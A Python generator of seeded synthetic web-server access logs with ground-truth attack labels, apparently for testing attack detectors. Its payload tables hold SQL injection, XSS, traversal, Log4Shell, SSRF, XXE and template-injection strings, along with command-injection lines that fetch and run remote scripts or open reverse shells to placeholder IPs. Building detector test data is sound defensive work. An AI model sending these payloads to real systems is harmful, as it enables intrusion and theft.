"""Seeded, realistic web traffic in the combined log format, with ground-truth attack labels.

The traffic looks like a small shop: browsers reading pages and loading assets, crawlers,
API clients, searches whose words look dangerous but are not (select comfort, union jack,
o'reilly), long tracking parameters, 404s for icons and old links, and health checks. About
5% of lines are attacks from every family, placed where real attackers put them (query
values, paths, user agents, referers) and URL-encoded the way their tools send them.
The same seed always gives the same lines.
"""

from __future__ import annotations

import base64
import gzip
import random
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from itertools import islice
from pathlib import Path
from typing import BinaryIO, cast
from urllib.parse import quote, quote_plus

ATTACK_CATEGORIES = (
    "sqli",
    "xss",
    "traversal",
    "lfi",
    "rfi",
    "rce",
    "log4shell",
    "ssrf",
    "scanner",
    "sensitive-file",
    "php",
    "crlf",
    "xxe",
    "open-redirect",
    "template-injection",
    "nosqli",
)
"""Every label `generate` gives an attack line; benign lines are labelled None."""

DEFAULT_START = datetime(2024, 3, 14, tzinfo=UTC)

_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


@dataclass(frozen=True, slots=True)
class GeneratedLine:
    """One combined-format log line (without newline) and what it really is."""

    text: str
    label: str | None


# Request pieces: (method, target, status, bytes, referer). Referer "" means "-".
_Request = tuple[str, str, int, int, str]

_SITE = "https://shop.example.com"

_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.{m} Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{m} like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.{m} Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0",
)
_CRAWLERS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
)
_API_CLIENTS = (
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "Go-http-client/2.0",
    "axios/1.6.7",
    "PostmanRuntime/7.36.3",
    "ShopApp/5.2.1 (iPhone; iOS 17.3; Scale/3.00)",
    "ShopApp/5.2.0 (Android 14; Pixel 7)",
    "curl/8.5.0",
)
_TOOL_AGENTS = (
    "sqlmap/1.7.12#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36 nuclei",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "python-requests/2.28.1",
    "Go-http-client/1.1",
    "curl/7.68.0",
    "-",
)

_CATEGORIES = ("shoes", "jackets", "bags", "kitchen", "garden", "books", "toys", "audio")
_PRODUCT_WORDS = (
    "select-comfort-pillow",
    "union-jack-flag",
    "drop-earrings",
    "table-runner",
    "script-pen-set",
    "alert-whistle",
    "exec-office-chair",
    "wireless-earbuds",
    "trail-runner-2",
    "rain-jacket",
    "cast-iron-skillet",
    "yoga-mat",
    "desk-lamp",
    "water-bottle",
    "canvas-tote",
    "chef-knife",
    "hiking-boots",
    "smart-plug",
    "kids-puzzle-100",
    "oreilly-python-cookbook",
)
_SEARCHES = (
    "men's shoes",
    "o'reilly books",
    "select comfort mattress",
    "union jack cushion",
    "drop earrings gold",
    'the "best" laptop bag',
    "1/2 inch drill bit",
    "100% cotton t-shirt",
    "c++ primer",
    "rock & roll poster",
    "kids' toys under $20",
    "where are my orders?",
    "black friday",
    "table or desk",
    "insert for shoes",
    "update firmware router",
    "and/or",
    "<3 mug",
    "café au lait cups",
    "naïve art print",
    "delete key keyboard",
    "script font",
    "waterproof jacket",
    "gift card",
    "sleep mask",
)
_BLOG = (
    "spring-lookbook",
    "how-we-source-cotton",
    "caring-for-leather",
    "gift-guide-2023",
    "behind-the-scenes",
    "sustainability-report",
)
_DEAD_LINKS = (
    "/favicon.ico",
    "/apple-touch-icon.png",
    "/apple-touch-icon-precomposed.png",
    "/blog/2019/summer-sale.html",
    "/old-shop/index.html",
    "/products/discontinued-1",
    "/.well-known/traffic-advice",
    "/ads.txt",
)


def _sqli() -> tuple[str, ...]:
    return (
        "' OR '1'='1",
        "1 UNION SELECT username,password FROM users--",
        "1' AND SLEEP(5)-- -",
        "1;DROP TABLE users",
        "admin'--",
        "1 AND 1=CONVERT(int,@@version)",
        "') OR ('a'='a",
        "1' ORDER BY 3-- -",
        "-1 UNION ALL SELECT NULL,NULL,concat(0x7e,version())--",
        "1' AND extractvalue(1,concat(0x7e,(select user())))--",
        "1 waitfor delay '0:0:5'--",
        "1'||pg_sleep(5)--",
        "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
        "x' UNION SELECT table_name FROM information_schema.tables--",
        "1) or benchmark(5000000,md5(1))#",
    )


_PAYLOADS: dict[str, tuple[str, ...]] = {
    "sqli": _sqli(),
    "xss": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(document.cookie)>',
        "javascript:alert(1)",
        "<svg/onload=confirm(1)>",
        "'-alert(1)-'",
        "<iframe src=javascript:alert(document.domain)>",
        "<body onload=alert('xss')>",
        "<details open ontoggle=alert(1)>",
        '"><script src=//xss.example/x.js></script>',
        '<a href="jAvAsCrIpT:alert(1)">x</a>',
    ),
    "traversal": (
        "../../../../etc/passwd",
        "..%2f..%2f..%2f..%2fetc%2fpasswd",
        "....//....//....//etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
        "..%252f..%252fetc%252fpasswd",
        "/../../../../../../boot.ini",
    ),
    "lfi": (
        "/etc/passwd",
        "/proc/self/environ",
        "../../../../var/log/nginx/access.log%00",
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/hosts",
        "/windows/system32/drivers/etc/hosts",
        "expect://id",
    ),
    "rfi": (
        "http://evil.example/shell.txt?",
        "https://203.0.113.5/x.php",
        "ftp://198.51.100.9/r57.txt",
        "http://evil.example/c99.txt%00",
        "\\\\203.0.113.5\\share\\x.php",
    ),
    "rce": (
        ";cat /etc/passwd",
        "|id",
        "$(whoami)",
        "`uname -a`",
        "; wget http://203.0.113.7/x.sh -O- | sh",
        "&& curl http://198.51.100.3/b | bash",
        "127.0.0.1; nc -e /bin/sh 203.0.113.7 4444",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "|| ping -c 10 127.0.0.1",
        "%0Aid",
    ),
    "log4shell": (
        "${jndi:ldap://198.51.100.7:1389/a}",
        "${${lower:j}ndi:${lower:l}dap://x.oast.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.8/o}",
        "${jndi:dns://x.oast.example}",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://203.0.113.9/e}",
    ),
    "ssrf": (
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://localhost:8080/admin",
        "http://[::1]:6379/",
        "http://127.0.0.1:2375/containers/json",
        "http://metadata.google.internal/computeMetadata/v1/",
        "gopher://127.0.0.1:6379/_INFO",
        "http://0x7f000001/",
        "http://10.0.0.1:9200/_cat/indices",
    ),
    "php": (
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        "<?php system('id'); ?>",
        "phpinfo()",
        'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
        "assert($_GET[x])",
        "eval(base64_decode('ZWNobyAxOw=='))",
    ),
    "crlf": (
        "%0d%0aSet-Cookie:%20session=evil",
        "%0d%0aLocation:%20http://evil.example",
        "en%0d%0aX-Injected:%201",
        "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b",
        "%0aContent-Length:%200",
    ),
    "xxe": (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        '<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>',
        '<!ENTITY xxe SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">',
    ),
    "open-redirect": (
        "https://evil.example/",
        "//evil.example",
        "/\\evil.example",
        "https:evil.example",
        "https://shop.example.com@evil.example/",
        "//%2F%2Fevil.example",
        "\\/\\/evil.example/login",
    ),
    "template-injection": (
        "{{7*7}}",
        "${7*7}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "{% import os %}{{os.system('id')}}",
    ),
    "nosqli": ('{"$ne": null}', '{"$gt": ""}', "[$regex]=.*", '{"$where": "sleep(5000)"}'),
}

_SCANNER_PATHS = (
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/pma/",
    "/admin/config.php",
    "/cgi-bin/test-cgi",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/actuator/env",
    "/solr/admin/info/system",
    "/manager/html",
    "/console/",
    "/owa/auth/logon.aspx",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/api/jsonws/invoke",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/_ignition/execute-solution",
    "/autodiscover/autodiscover.xml",
    "/index.php?s=/Index/\\think\\app/invokefunction",
    "/jenkins/script",
    "/druid/index.html",
    "/.well-known/security.txt",
    "/setup.cgi",
)
_SENSITIVE_PATHS = (
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/config.php.bak",
    "/backup.sql",
    "/db.sqlite3",
    "/.aws/credentials",
    "/id_rsa",
    "/.htpasswd",
    "/web.config",
    "/server-status",
    "/WEB-INF/web.xml",
    "/.svn/entries",
    "/wp-config.php~",
    "/docker-compose.yml",
    "/.DS_Store",
    "/config/database.yml",
    "/storage/logs/laravel.log",
    "/.env.production",
    "/dump.sql.gz",
)

_TLS_PROBES = (
    "\\x16\\x03\\x01\\x00\\xA5\\x01\\x00\\x00\\xA1\\x03\\x03",
    "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03\\xE7\\x1C",
    "\\x05\\x01\\x00",
    "SSH-2.0-Go",
    "\\x00\\x00\\x00\\x00",
)


def nginx_escape(value: str) -> str:
    """`value` as nginx writes it inside a log line (quotes, backslashes, non-ASCII as \\xHH)."""
    if value.isascii() and value.isprintable() and '"' not in value and "\\" not in value:
        return value
    out: list[str] = []
    for byte in value.encode("utf-8"):
        if byte < 0x20 or byte >= 0x7F or byte in (0x22, 0x5C):
            out.append(f"\\x{byte:02X}")
        else:
            out.append(chr(byte))
    return "".join(out)


class _Traffic:
    """The state of one generated log: random source, client pools and the clock."""

    def __init__(self, seed: int, attack_ratio: float, ipv6_ratio: float) -> None:
        self.rng = random.Random(seed)
        self.attack_ratio = attack_ratio
        rng = self.rng
        self.clients = [self._client(ipv6_ratio) for _ in range(2500)]
        self.crawlers = [(self._ipv4(), rng.choice(_CRAWLERS)) for _ in range(40)]
        self.api_clients = [(self._ip(ipv6_ratio), rng.choice(_API_CLIENTS)) for _ in range(150)]
        self.attackers = [(self._ip(ipv6_ratio), rng.choice(_TOOL_AGENTS)) for _ in range(120)]
        self.assets = [f"{rng.getrandbits(32):08x}" for _ in range(6)]
        self.product_ids = list(range(1000, 9000))
        self.benign: list[Callable[[], _Request]] = []
        weights = (
            (self._page, 28),
            (self._asset, 34),
            (self._api, 14),
            (self._search, 7),
            (self._tracked, 5),
            (self._login, 3),
            (self._not_found, 4),
            (self._health, 3),
            (self._closed, 0.05),
        )
        total = sum(w for _, w in weights)
        for builder, weight in weights:
            self.benign.extend([builder] * max(1, round(weight * 2000 / total)))
        self.families = [(name, self._attack_builder(name)) for name in ATTACK_CATEGORIES]

    def _ipv4(self) -> str:
        rng = self.rng
        first = rng.choice(
            (
                23,
                31,
                37,
                45,
                51,
                62,
                66,
                73,
                81,
                89,
                94,
                103,
                109,
                151,
                176,
                185,
                188,
                193,
                203,
                212,
            )
        )
        return f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"

    def _ipv6(self) -> str:
        rng = self.rng
        prefix = rng.choice(("2a02:c7f", "2001:db8", "2600:1700", "2a01:e0a", "2406:da18"))
        groups = ":".join(f"{rng.randrange(1, 0xFFFF):x}" for _ in range(4))
        return (
            f"{prefix}:{rng.randrange(1, 0xFFFF):x}::{groups}"
            if rng.random() < 0.5
            else (f"{prefix}:{rng.randrange(1, 0xFFFF):x}:{rng.randrange(0xFFFF):x}:{groups}")
        )

    def _ip(self, ipv6_ratio: float) -> str:
        return self._ipv6() if self.rng.random() < ipv6_ratio else self._ipv4()

    def _client(self, ipv6_ratio: float) -> tuple[str, str]:
        rng = self.rng
        template = rng.choice(_BROWSERS)
        return self._ip(ipv6_ratio), template.format(v=rng.randrange(118, 124), m=rng.randrange(6))

    def _pick(self, pool: list[tuple[str, str]]) -> tuple[str, str]:
        # Squaring skews toward the front: a few heavy clients, a long tail of light ones.
        return pool[int(len(pool) * self.rng.random() ** 2)]

    def _product(self) -> str:
        return f"{self.rng.choice(_PRODUCT_WORDS)}-{self.rng.choice(self.product_ids)}"

    def _page(self) -> _Request:
        rng = self.rng
        roll = rng.random()
        if roll < 0.35:
            target = f"/products/{self._product()}"
        elif roll < 0.6:
            target = (
                f"/category/{rng.choice(_CATEGORIES)}?page={rng.randrange(1, 9)}"
                f"&sort={rng.choice(('price_asc', 'price_desc', 'newest', 'rating'))}"
            )
        elif roll < 0.7:
            target = f"/blog/{rng.randrange(2020, 2025)}/{rng.choice(_BLOG)}"
        elif roll < 0.85:
            target = "/"
        else:
            target = rng.choice(
                (
                    "/about",
                    "/contact",
                    "/cart",
                    "/checkout",
                    "/account/orders",
                    "/help/shipping",
                    "/robots.txt",
                    "/sitemap.xml",
                )
            )
        status = 200 if rng.random() < 0.93 else rng.choice((301, 302, 304))
        size = rng.randrange(4_000, 90_000) if status == 200 else 0
        referer = rng.choice(
            (
                "",
                f"{_SITE}/",
                f"{_SITE}/category/shoes",
                "https://www.google.com/",
                "https://duckduckgo.com/",
            )
        )
        return "GET", target, status, size, referer

    def _asset(self) -> _Request:
        rng = self.rng
        roll = rng.random()
        if roll < 0.3:
            target = f"/static/js/app.{rng.choice(self.assets)}.js"
        elif roll < 0.5:
            target = f"/static/css/main.{rng.choice(self.assets)}.css"
        elif roll < 0.9:
            target = (
                f"/images/products/{rng.choice(self.product_ids)}-"
                f"{rng.choice((200, 400, 800))}.webp"
            )
        else:
            target = rng.choice(
                ("/fonts/inter-var.woff2", "/static/img/logo.svg", "/static/img/sprite.png")
            )
        status = 304 if rng.random() < 0.25 else 200
        size = 0 if status == 304 else rng.randrange(800, 400_000)
        return "GET", target, status, size, f"{_SITE}/products/{self._product()}"

    def _api(self) -> _Request:
        rng = self.rng
        roll = rng.random()
        if roll < 0.3:
            target = (
                f"/api/v1/products?category={rng.choice(_CATEGORIES)}&limit=20"
                f"&offset={rng.randrange(0, 400, 20)}&sort=-price"
            )
            return "GET", target, 200, rng.randrange(2_000, 30_000), ""
        if roll < 0.5:
            return "GET", f"/api/v1/products/{rng.choice(self.product_ids)}", 200, 1_800, ""
        if roll < 0.6:
            order = f"{rng.getrandbits(128):032x}"
            uuid = f"{order[:8]}-{order[8:12]}-4{order[13:16]}-a{order[17:20]}-{order[20:]}"
            return "GET", f"/api/v2/orders/{uuid}", rng.choice((200, 200, 404)), 950, ""
        if roll < 0.72:
            return "POST", "/api/v1/cart", 201, 512, f"{_SITE}/cart"
        if roll < 0.78:
            return "PUT", f"/api/v1/cart/items/{rng.choice(self.product_ids)}", 200, 300, ""
        if roll < 0.82:
            return "DELETE", f"/api/v1/cart/items/{rng.choice(self.product_ids)}", 204, 0, ""
        if roll < 0.86:
            return "OPTIONS", "/api/v1/cart", 204, 0, f"{_SITE}/"
        if roll < 0.93:
            filters = quote('{"color":"red","size":[' + str(rng.randrange(36, 46)) + "]}", safe="")
            query = quote_plus(rng.choice(_SEARCHES))
            return "GET", f"/api/v1/search?q={query}&filters={filters}", 200, 6_000, ""
        return "POST", "/graphql", 200, rng.randrange(300, 9_000), f"{_SITE}/"

    def _search(self) -> _Request:
        rng = self.rng
        words = quote_plus(rng.choice(_SEARCHES))
        target = f"/search?q={words}"
        if rng.random() < 0.3:
            target += f"&page={rng.randrange(2, 6)}"
        return "GET", target, 200, rng.randrange(10_000, 60_000), f"{_SITE}/"

    def _tracked(self) -> _Request:
        rng = self.rng
        method, target, status, size, _ = self._page()
        click = base64.urlsafe_b64encode(rng.randbytes(rng.randrange(40, 90))).decode().rstrip("=")
        state = base64.b64encode(
            f'{{"cid":{rng.randrange(10**6)},"src":"mail","v":2}}'.encode()
        ).decode()
        sep = "&" if "?" in target else "?"
        target += (
            f"{sep}utm_source={rng.choice(('newsletter', 'facebook', 'google'))}"
            f"&utm_medium={rng.choice(('email', 'cpc', 'social'))}"
            f"&utm_campaign=spring_sale_2024&gclid={click}&ref={quote(state, safe='')}"
        )
        return (
            method,
            target,
            status,
            size,
            rng.choice(("", "https://www.facebook.com/", "https://mail.example.net/")),
        )

    def _login(self) -> _Request:
        rng = self.rng
        if rng.random() < 0.4:
            return "GET", "/login?next=%2Faccount%2Forders", 200, 7_400, f"{_SITE}/"
        status = rng.choice((302, 302, 302, 401, 200))
        return "POST", "/login", status, 0 if status == 302 else 7_600, f"{_SITE}/login"

    def _not_found(self) -> _Request:
        return "GET", self.rng.choice(_DEAD_LINKS), 404, 153, ""

    def _health(self) -> _Request:
        return "GET", "/healthz", 200, 2, ""

    def _closed(self) -> _Request:
        # A client that connected and closed without a request: nginx logs "-" with a 400.
        return "-", "", 400, 0, ""

    def _attack_builder(self, family: str) -> Callable[[], tuple[str, str, str, str, int]]:
        """A builder of (method, target, referer, user-agent override, status) for `family`."""
        rng = self.rng

        def encode(payload: str) -> str:
            style = rng.random()
            if style < 0.5:
                return quote(payload, safe="")
            if style < 0.8:
                return quote_plus(payload, safe="/:,()*'$")
            return quote(payload, safe="/:?=&,;@$!*'()[]{}<>|`^")

        def in_param(names: tuple[str, ...], paths: tuple[str, ...]) -> str:
            payload = encode(rng.choice(_PAYLOADS[family]))
            name = rng.choice(names)
            path = rng.choice(paths)
            if rng.random() < 0.3:
                return f"{path}?page=1&{name}={payload}"
            return f"{path}?{name}={payload}"

        status_pool = (403, 404, 400, 200, 500, 200, 302)

        def build() -> tuple[str, str, str, str, int]:
            status = rng.choice(status_pool)
            if family == "sqli":
                roll = rng.random()
                if roll < 0.85:
                    return (
                        "GET",
                        in_param(
                            ("id", "q", "category", "sort", "user", "order"),
                            (
                                "/products",
                                "/search",
                                "/api/v1/products",
                                "/account/orders",
                                "/item.php",
                            ),
                        ),
                        "",
                        "",
                        status,
                    )
                return (
                    "GET",
                    f"/products/{self._product()}",
                    "",
                    rng.choice(_PAYLOADS[family]),
                    status,
                )
            if family == "xss":
                if rng.random() < 0.85:
                    return (
                        "GET",
                        in_param(
                            ("q", "name", "message", "redirect", "callback"),
                            ("/search", "/contact", "/comment", "/login"),
                        ),
                        "",
                        "",
                        status,
                    )
                return "GET", "/search?q=shoes", encode(rng.choice(_PAYLOADS[family])), "", status
            if family == "traversal":
                payload = rng.choice(_PAYLOADS[family])
                if rng.random() < 0.5:
                    safe_payload = quote(payload.replace("\\", "/"), safe="/%.")
                    return "GET", f"/static/{safe_payload}", "", "", status
                return "GET", f"/download?file={quote(payload, safe='%')}", "", "", status
            if family in ("lfi", "rfi", "php"):
                if family == "php" and rng.random() < 0.3:
                    target = rng.choice(
                        (
                            "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
                            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                            "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function="
                            "call_user_func_array&vars[0]=system&vars[1][]=id",
                        )
                    )
                    return "POST" if "eval-stdin" in target else "GET", target, "", "", status
                return (
                    "GET",
                    in_param(
                        ("page", "file", "include", "template", "lang", "view"),
                        ("/index.php", "/view", "/help", "/"),
                    ),
                    "",
                    "",
                    status,
                )
            if family == "rce":
                roll = rng.random()
                if roll < 0.2:
                    agent = (
                        '() { :; }; /bin/bash -c "'
                        + rng.choice(
                            ("wget http://203.0.113.7/x -O /tmp/x", "cat /etc/passwd", "id")
                        )
                        + '"'
                    )
                    return "GET", "/cgi-bin/status", "", agent, status
                if roll < 0.3:
                    return "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", "", status
                return (
                    "GET",
                    in_param(
                        ("host", "ip", "cmd", "exec", "ping", "domain"),
                        ("/diag", "/api/v1/ping", "/tools/lookup", "/"),
                    ),
                    "",
                    "",
                    status,
                )
            if family == "log4shell":
                payload = rng.choice(_PAYLOADS[family])
                roll = rng.random()
                if roll < 0.5:
                    return "GET", "/", "", payload, status
                if roll < 0.7:
                    return "GET", "/login", payload, "", status
                return "GET", f"/search?q={quote(payload, safe='')}", "", "", status
            if family == "ssrf":
                return (
                    "GET",
                    in_param(
                        ("url", "dest", "uri", "callback", "image", "feed"),
                        ("/fetch", "/api/v1/preview", "/proxy", "/image"),
                    ),
                    "",
                    "",
                    status,
                )
            if family == "scanner":
                roll = rng.random()
                if roll < 0.1:
                    return "TLS", rng.choice(_TLS_PROBES), "", "", 400
                if roll < 0.15:
                    return rng.choice(("PROPFIND", "TRACE", "DEBUG")), "/", "", "", 405
                return (
                    rng.choice(("GET", "GET", "HEAD", "POST")),
                    rng.choice(_SCANNER_PATHS),
                    "",
                    "",
                    rng.choice((404, 404, 404, 403, 200)),
                )
            if family == "sensitive-file":
                return "GET", rng.choice(_SENSITIVE_PATHS), "", "", rng.choice((404, 404, 403, 200))
            if family == "crlf":
                payload = rng.choice(_PAYLOADS[family])
                if rng.random() < 0.5:
                    return "GET", f"/redirect?url={payload}", "", "", status
                return "GET", f"/{payload}", "", "", status
            if family == "xxe":
                return (
                    "POST",
                    in_param(("xml", "data", "feed"), ("/api/import", "/soap", "/xmlrpc")),
                    "",
                    "",
                    status,
                )
            if family == "open-redirect":
                return (
                    "GET",
                    in_param(
                        ("next", "redirect", "return_to", "url", "continue"),
                        ("/login", "/logout", "/out", "/sso/callback"),
                    ),
                    "",
                    "",
                    rng.choice((302, 302, 200)),
                )
            if family == "template-injection":
                return (
                    "GET",
                    in_param(
                        ("name", "q", "template", "greeting", "msg"),
                        ("/search", "/preview", "/hello", "/api/v1/render"),
                    ),
                    "",
                    "",
                    status,
                )
            # nosqli
            payload = rng.choice(_PAYLOADS[family])
            if payload.startswith("["):
                return "GET", f"/api/v1/users?username{quote(payload, safe='[]$=')}", "", "", status
            return (
                "GET",
                f"/api/v1/login?user=admin&password={quote(payload, safe='')}",
                "",
                "",
                status,
            )

        return build

    def line(self, stamp: str) -> GeneratedLine:
        rng = self.rng
        if rng.random() < self.attack_ratio:
            label, build = self.families[int(rng.random() * len(self.families))]
            method, target, referer, agent_override, status = build()
            ip, agent = self._pick(self.attackers)
            if agent_override:
                agent = agent_override
            elif label in ("scanner", "sensitive-file") and agent.startswith("Mozilla/5.0 (W"):
                agent = rng.choice(_TOOL_AGENTS)
            request = target if method == "TLS" else f"{method} {target} HTTP/1.1"
            size = rng.randrange(150, 600) if status != 200 else rng.randrange(1_000, 20_000)
            return GeneratedLine(
                f'{ip} - - [{stamp}] "{request}" {status} {size} '
                f'"{nginx_escape(referer) or "-"}" "{nginx_escape(agent)}"',
                label,
            )
        builder = self.benign[int(rng.random() * len(self.benign))]
        method, target, status, size, referer = builder()
        if builder == self._api:
            ip, agent = self._pick(self.api_clients)
            if referer:
                ip, agent = self._pick(self.clients)
        elif builder == self._health:
            ip, agent = f"10.0.{rng.randrange(4)}.{rng.randrange(2, 40)}", "kube-probe/1.29"
        elif rng.random() < 0.06:
            ip, agent = self._pick(self.crawlers)
            referer = ""
        else:
            ip, agent = self._pick(self.clients)
        user = "-"
        if target.startswith("/account") and rng.random() < 0.5:
            user = f"user{rng.randrange(1, 500)}"
        request = "-" if method == "-" else f"{method} {target} HTTP/{rng.choice(('1.1', '2.0'))}"
        agent_field = "-" if method == "-" else nginx_escape(agent)
        return GeneratedLine(
            f'{ip} - {user} [{stamp}] "{request}" {status} {size} "{referer or "-"}" '
            f'"{agent_field}"',
            None,
        )


def _clf_time(moment: datetime, zone: str) -> str:
    return (
        f"{moment.day:02d}/{_MONTHS[moment.month - 1]}/{moment.year}:"
        f"{moment.hour:02d}:{moment.minute:02d}:{moment.second:02d} {zone}"
    )


def generate(
    n: int,
    seed: int,
    *,
    attack_ratio: float = 0.05,
    ipv6_ratio: float = 0.08,
    start: datetime = DEFAULT_START,
    duration: timedelta = timedelta(days=1),
    utc_offset_minutes: int = 0,
) -> Iterator[GeneratedLine]:
    """`n` log lines spread evenly over `duration` from `start`, the same for the same seed.

    Times are written in the zone `utc_offset_minutes` east of UTC, as a server there would.
    """
    if n < 0:
        raise ValueError("n must not be negative")
    traffic = _Traffic(seed, attack_ratio, ipv6_ratio)
    sign = "+" if utc_offset_minutes >= 0 else "-"
    hours, minutes = divmod(abs(utc_offset_minutes), 60)
    zone = f"{sign}{hours:02d}{minutes:02d}"
    local_start = start.astimezone(UTC) + timedelta(minutes=utc_offset_minutes)
    step = duration.total_seconds() / n if n else 0.0
    last_second = -1
    stamp = ""
    for index in range(n):
        second = int(index * step)
        if second != last_second:
            stamp = _clf_time(local_start + timedelta(seconds=second), zone)
            last_second = second
        yield traffic.line(stamp)


def _open_binary(path: Path) -> BinaryIO:
    if path.suffix == ".gz":
        return cast(BinaryIO, gzip.open(path, "wb"))
    return path.open("wb")


def write_log(
    path: str | Path,
    n: int,
    seed: int,
    *,
    labels_path: str | Path | None = None,
    attack_ratio: float = 0.05,
    start: datetime = DEFAULT_START,
    utc_offset_minutes: int = 0,
) -> Counter[str]:
    """Write `n` generated lines to `path` (gzip when it ends in `.gz`); count them by label.

    With `labels_path`, the label of each line (`-` for benign) is written there, one a line.
    """
    counts: Counter[str] = Counter()
    lines = generate(
        n, seed, attack_ratio=attack_ratio, start=start, utc_offset_minutes=utc_offset_minutes
    )
    with ExitStack() as stack:
        out = stack.enter_context(_open_binary(Path(path)))
        labels = stack.enter_context(_open_binary(Path(labels_path))) if labels_path else None
        while True:
            chunk = list(islice(lines, 10_000))
            if not chunk:
                break
            out.write("".join(f"{item.text}\n" for item in chunk).encode())
            names = [item.label or "-" for item in chunk]
            counts.update(name if name != "-" else "benign" for name in names)
            if labels is not None:
                labels.write("".join(f"{name}\n" for name in names).encode())
    return counts
